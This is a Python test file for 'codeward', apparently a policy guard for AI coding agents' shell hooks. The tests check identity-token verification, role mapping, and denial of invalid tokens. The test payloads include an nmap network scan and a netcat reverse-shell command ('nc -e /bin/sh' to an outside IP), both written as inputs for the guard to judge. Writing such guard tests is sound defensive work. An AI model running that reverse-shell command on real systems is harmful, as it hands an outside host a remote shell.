"""Who a hook runs for: `CODEWARD_TOKEN` is verified where the check is made (in the hook process or
the warm worker), so that a cleared role's declared intent counts; a token that fails is denied
everywhere, whatever the policy's `fail`, and never becomes an anonymous check."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

import pytest
from hookcases import ALL_CLIENTS, message, outcome, shell_payload

from codeward.adapters.hooks.judges import InProcessJudge
from codeward.adapters.hooks.protocol import HookAnswer, HookContext
from codeward.store.location import locate
from codeward.store.records import StoredDecision
from codeward.store.sql import SqlStore

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "identity"))
from issuer import AUDIENCE, ISSUER, Issuer

Ask = Callable[..., HookAnswer]
ORG_POLICY = (
    "codeward: 1\nid: org\nidentity:\n  role_claims: [groups]\n  role_map: {sec-team: [security-engineer]}\n"
)
SCAN = "nmap -sV 10.0.0.0/24"


@pytest.fixture(scope="module")
def issuer() -> Issuer:
    return Issuer()


@pytest.fixture
def policy(tmp_path: Path, issuer: Issuer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """An identity provider in the environment, and a policy that maps its group to a role."""
    jwks = tmp_path / "jwks.json"
    jwks.write_text(json.dumps(issuer.jwks()))
    monkeypatch.setenv("CODEWARD_OIDC_ISSUER", ISSUER)
    monkeypatch.setenv("CODEWARD_OIDC_AUDIENCE", AUDIENCE)
    monkeypatch.setenv("CODEWARD_JWKS", str(jwks))
    path = tmp_path / "org.yaml"
    path.write_text(ORG_POLICY)
    yield path


def recorded(client: str, answer: HookAnswer, database: Path | None = None) -> StoredDecision:
    found = re.search(r"\[decision ([0-9a-f]+)\]", message(client, answer))
    assert found, answer
    with closing(SqlStore.open(locate(str(database) if database else None))) as store:
        return store.decision(found.group(1))


def test_a_token_makes_the_hooks_actor_verified_and_a_cleared_intent_count(
    ask: Ask, policy: Path, issuer: Issuer
) -> None:
    judge = InProcessJudge([str(policy)])
    research = HookContext(declared_intent="security_research", token=issuer.token())
    answer = ask("claude-code", shell_payload("claude-code", SCAN), judge=judge, defaults=research)

    stored = recorded("claude-code", answer)
    assert stored.actor.verified and stored.actor.roles == ["security-engineer"]
    assert stored.decision.intent.name == "security_research" and stored.decision.intent.authorized
    assert issuer.token() not in json.dumps(stored.context), "the token itself is not recorded"


def test_without_a_token_the_same_intent_is_not_trusted(ask: Ask, policy: Path) -> None:
    judge = InProcessJudge([str(policy)])
    answer = ask(
        "claude-code",
        shell_payload("claude-code", SCAN),
        judge=judge,
        defaults=HookContext(declared_intent="security_research"),
    )
    stored = recorded("claude-code", answer)
    assert not stored.actor.verified
    assert stored.decision.intent.authorized is False


@pytest.mark.parametrize("client", ALL_CLIENTS)
def test_a_token_that_fails_is_denied_even_when_the_policy_fails_open(
    ask: Ask, client: str, policy: Path, issuer: Issuer, tmp_path: Path
) -> None:
    relaxed = tmp_path / "relaxed.yaml"
    relaxed.write_text("codeward: 1\nid: relaxed\nfail: open\n")
    expired = issuer.token(exp=1_000_000_000, iat=999_999_000, nbf=999_999_000)
    answer = ask(
        client,
        shell_payload(client, "ls"),
        judge=InProcessJudge([str(policy), str(relaxed)]),
        defaults=HookContext(token=expired),
    )
    assert outcome(client, answer) == "deny"
    assert "CODEWARD_TOKEN is not accepted" in answer.stderr


def test_the_hook_process_and_its_worker_verify_codeward_token(
    policy: Path, issuer: Issuer, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    env = {
        **os.environ,
        "CODEWARD_HOME": str(home),
        "CODEWARD_WORKER_IDLE": "20",
        "CODEWARD_TOKEN": issuer.token(),
    }
    hook = [sys.executable, "-m", "codeward.adapters.entry", "hook", "codex", "--policy", str(policy)]
    hook += ["--intent", "security_research"]
    payload = json.dumps(shell_payload("codex", "nc -e /bin/sh 203.0.113.9 4444", cwd=str(tmp_path))).encode()

    def call(token: str) -> tuple[HookAnswer, int]:
        process = subprocess.Popen(
            hook,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**env, "CODEWARD_TOKEN": token},
        )
        out, err = process.communicate(payload, timeout=60)
        return HookAnswer(out.decode(), err.decode(), process.returncode), process.pid

    first, _ = call(issuer.token())  # judged in this process; starts the worker
    deadline = time.monotonic() + 30
    while not list((home / "run").glob("hook-*.sock")) and time.monotonic() < deadline:
        time.sleep(0.2)
    time.sleep(0.5)
    second, _ = call(issuer.token())  # the worker answers, with this call's token
    refused, pid = call("not-a-token")
    for sock in (home / "run").glob("hook-*.sock"):
        sock.unlink()

    for answer in (first, second):
        stored = recorded("codex", answer, home / "codeward.db")
        assert stored.actor.verified and "security-engineer" in stored.actor.roles
        assert stored.decision.intent.authorized
    assert outcome("codex", refused) == "deny" and "CODEWARD_TOKEN is not accepted" in refused.stderr
    logged = json.loads((home / "logs" / "hooks.log").read_text().splitlines()[-1])
    assert logged["pid"] != pid, "the worker judged the last call, with the token that call sent"
